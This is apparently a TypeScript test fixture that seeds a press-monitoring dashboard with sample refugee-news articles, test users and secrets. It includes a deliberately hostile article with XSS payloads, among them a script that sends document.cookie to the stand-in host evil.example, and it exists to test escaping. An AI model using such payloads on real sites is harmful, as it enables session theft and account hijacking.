import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Client } from '@elastic/elasticsearch';
import { loadConfigOrThrow } from '../../../config/index.ts';
import { loadSettings } from '../../../config/settings.ts';
import { silentLogger } from '../../../core/logger.ts';
import { archivePage } from '../../../crawlers/raw-archive.ts';
import { hashPassword, startDashboards } from '../../../dashboards/index.ts';
import { ensureIndices, writeArticles } from '../../../indexer/index.ts';
import type { Article } from '../../../pipeline/types.ts';
import { makeArticle } from '../../indexer/make-article.ts';
import {
  deleteTestIndices,
  testEsClient,
  testEsUrl,
  uniqueIndexPrefix,
} from '../../support/elasticsearch.ts';

/** The analyst who logs in during the tests, and their password. */
export const ANALYST = { name: 'ana', email: 'ana@example.org', password: 'correct horse battery' } as const;
/** A second user without an e-mail address (no digest). */
export const OTHER_USER = { name: 'piotr', password: 'another good password' } as const;
export const API_TOKEN = 'test-token-0123456789abcdefghijklmnopqrstuvwxyz';
/** PRESSMON_DIGEST_SECRET of the fixture: it signs the digest's unsubscribe links. */
export const DIGEST_SECRET = 'digest-secret-for-unsubscribe-links';

const DAY_MS = 24 * 60 * 60 * 1000;
const daysAgo = (days: number): string => new Date(Date.now() - days * DAY_MS).toISOString();

/** Script and event-handler payloads, as a hostile page could put them in a title and a body. */
export const XSS_TITLE = `<script>alert("title")</script> Migranți <img src=x onerror=alert(1)> la graniță`;
export const XSS_BODY = [
  'Refugiați la graniță <script>fetch("http://evil.example/steal?c="+document.cookie)</script> au așteptat ore.',
  '<img src="http://evil.example/pixel.png" onerror="alert(2)"> <a href="javascript:alert(3)">click</a>',
  '<iframe src="//evil.example/frame"></iframe> <svg onload=alert(4)></svg> "quotes" & ampersands',
].join('\n\n');

/** The fixture articles: a story in two outlets, Polish and English ones, a hostile one and fillers. */
export function fixtureArticles(): {
  all: Article[];
  story: Article;
  copy: Article;
  hostile: Article;
  polish: Article;
} {
  const story = makeArticle({
    slug: 'centru-refugiati-bucuresti',
    title: 'Centru nou pentru refugiați la București',
    lead: 'CNRR deschide un centru de cazare.',
    body: 'Consiliul Național Român pentru Refugiați (CNRR) a deschis un centru pentru refugiați la București.\n\nVoluntarii ajută familiile venite din Ucraina.',
    publishedAt: daysAgo(2),
    fetchedAt: daysAgo(2),
    source: { id: 'digi24', name: 'Digi24', country: 'ro' },
    topics: [
      { id: 'asylum', score: 3.2, terms: [{ term: 'refugiat', field: 'body', text: 'refugiați', count: 2 }] },
    ],
    frames: [
      {
        id: 'humanitarian_victim',
        score: 2,
        terms: [{ term: 'familii', field: 'body', text: 'familiile', count: 1 }],
      },
    ],
    terminology: [
      { id: 'refugee', count: 2, terms: [{ term: 'refugiat', field: 'body', text: 'refugiați', count: 2 }] },
    ],
    organisations: [{ id: 'cnrr', name: 'Consiliul Național Român pentru Refugiați', count: 2 }],
    places: [{ id: 'bucuresti', name: 'București', country: 'ro', count: 1 }],
    dedup: {
      contentHash: 'a'.repeat(64),
      simhash: '0123456789abcdef',
      storyId: 'story-centru',
      duplicateOf: null,
    },
  });
  const copy = makeArticle({
    slug: 'agerpres-centru-refugiati',
    url: 'https://www.agerpres.ro/social/centru-refugiati',
    title: 'Un centru pentru refugiați s-a deschis în capitală',
    body: 'Un centru pentru refugiați s-a deschis în București, anunță CNRR.',
    publishedAt: daysAgo(1),
    fetchedAt: daysAgo(1),
    source: { id: 'agerpres', name: 'Agerpres', country: 'ro' },
    organisations: [{ id: 'cnrr', name: 'CNRR', count: 1 }],
    dedup: {
      contentHash: 'b'.repeat(64),
      simhash: '0123456789abcdee',
      storyId: 'story-centru',
      duplicateOf: story.id,
    },
  });
  const polish = makeArticle({
    slug: 'uchodzcy-przemysl',
    url: 'https://oko.press/uchodzcy-przemysl',
    title: 'Uchodźcy w Przemyślu',
    lead: null,
    body: 'Wolontariusze w Przemyślu pomagają uchodźcom z Ukrainy. Stowarzyszenie Interwencji Prawnej doradza.',
    publishedAt: daysAgo(3),
    fetchedAt: daysAgo(3),
    language: { code: 'pl', confidence: 0.99 },
    source: { id: 'oko-press', name: 'OKO.press', country: 'pl' },
    topics: [{ id: 'ukraine_displacement', score: 4, terms: [] }],
    organisations: [{ id: 'sip', name: 'Stowarzyszenie Interwencji Prawnej', count: 1 }],
    places: [{ id: 'przemysl', name: 'Przemyśl', country: 'pl', count: 1 }],
    frames: [{ id: 'security_threat', score: 1.5, terms: [] }],
    dedup: {
      contentHash: 'c'.repeat(64),
      simhash: '1123456789abcdef',
      storyId: 'story-pl',
      duplicateOf: null,
    },
  });
  const hostile = makeArticle({
    slug: 'hostile',
    url: 'https://www.g4media.ro/hostile',
    title: XSS_TITLE,
    lead: '<b onmouseover=alert(5)>lead</b>',
    body: XSS_BODY,
    publishedAt: daysAgo(4),
    fetchedAt: daysAgo(4),
    source: { id: 'g4media', name: 'G4Media <script>', country: 'ro' },
    organisations: [],
    places: [],
    topics: [
      {
        id: 'detention_return_border',
        score: 2,
        terms: [{ term: 'graniță', field: 'title', text: '<script>', count: 1 }],
      },
    ],
    dedup: {
      contentHash: 'd'.repeat(64),
      simhash: '2123456789abcdef',
      storyId: 'story-hostile',
      duplicateOf: null,
    },
  });
  const fillers = Array.from({ length: 24 }, (_, index) =>
    makeArticle({
      slug: `filler-${index}`,
      title: `Știri locale ${index}`,
      body: `Consiliul local a discutat bugetul numărul ${index}. Refugiații nu au fost subiectul ședinței.`,
      publishedAt: daysAgo(5 + index),
      fetchedAt: daysAgo(5 + index),
      source: {
        id: index % 2 === 0 ? 'hotnews' : 'adevarul',
        name: index % 2 === 0 ? 'HotNews' : 'Adevărul',
        country: 'ro',
      },
      topics: [],
      organisations: [],
      places: [],
      dedup: {
        contentHash: `${index}`.padStart(64, 'e'),
        simhash: '3123456789abcdef',
        storyId: `story-filler-${index}`,
        duplicateOf: null,
      },
    }),
  );
  return { all: [story, copy, polish, hostile, ...fillers], story, copy, hostile, polish };
}

export interface DashboardsFixture {
  readonly url: string;
  readonly prefix: string;
  readonly client: Client;
  readonly dataDir: string;
  readonly articles: ReturnType<typeof fixtureArticles>;
  close(): Promise<void>;
}

/**
 * Indexes the fixture articles under a fresh prefix of the real test
 * Elasticsearch, archives the story's raw page, and starts the dashboards on
 * 127.0.0.1 (a free port) with the real config/ and two users.
 */
export async function startFixtureDashboards(
  label: string,
  options: {
    loginLimit?: { max: number; windowMs: number };
    unsubscribeLimit?: { max: number; windowMs: number };
  } = {},
): Promise<DashboardsFixture> {
  const client = testEsClient();
  const prefix = uniqueIndexPrefix(label);
  const dataDir = await mkdtemp(path.join(tmpdir(), `pressmon-${label}-`));
  const users = [
    `${ANALYST.name}:${ANALYST.email}:${await hashPassword(ANALYST.password)}`,
    `${OTHER_USER.name}::${await hashPassword(OTHER_USER.password)}`,
  ].join(',');
  const settings = loadSettings({
    PRESSMON_ES_URL: testEsUrl(),
    PRESSMON_INDEX_PREFIX: prefix,
    PRESSMON_DATA_DIR: dataDir,
    PRESSMON_TIME_ZONE: 'UTC',
    PRESSMON_DASHBOARD_USERS: users,
    PRESSMON_DASHBOARD_API_TOKEN: API_TOKEN,
    PRESSMON_DASHBOARD_SESSION_SECRET: 'session-secret-0123456789abcdefghijklmnop',
    PRESSMON_DIGEST_SECRET: DIGEST_SECRET,
  });
  const config = await loadConfigOrThrow({ configDir: settings.configDir, sourcesDir: settings.sourcesDir });
  const articles = fixtureArticles();
  await ensureIndices(client, prefix);
  await writeArticles({
    client,
    prefix,
    articles: articles.all,
    spoolDir: path.join(dataDir, 'spool'),
    logger: silentLogger(),
  });
  await client.indices.refresh({ index: `${prefix}-articles` });
  await archivePage(dataDir, {
    sourceId: articles.story.source.id,
    url: articles.story.url,
    finalUrl: articles.story.url,
    status: 200,
    headers: { 'content-type': 'text/html; charset=utf-8' },
    html: `<html><body><h1>${articles.story.title}</h1><script>alert("raw")</script></body></html>`,
    fetchedAt: articles.story.fetchedAt,
  });
  const running = await startDashboards(
    { client, settings, config, logger: silentLogger() },
    {
      port: 0,
      host: '127.0.0.1',
      ...(options.loginLimit === undefined ? {} : { loginLimit: options.loginLimit }),
      ...(options.unsubscribeLimit === undefined ? {} : { unsubscribeLimit: options.unsubscribeLimit }),
    },
  );
  return {
    url: running.url,
    prefix,
    client,
    dataDir,
    articles,
    close: async () => {
      await running.close();
      await deleteTestIndices(client, prefix);
      await client.close();
      await rm(dataDir, { recursive: true, force: true });
    },
  };
}
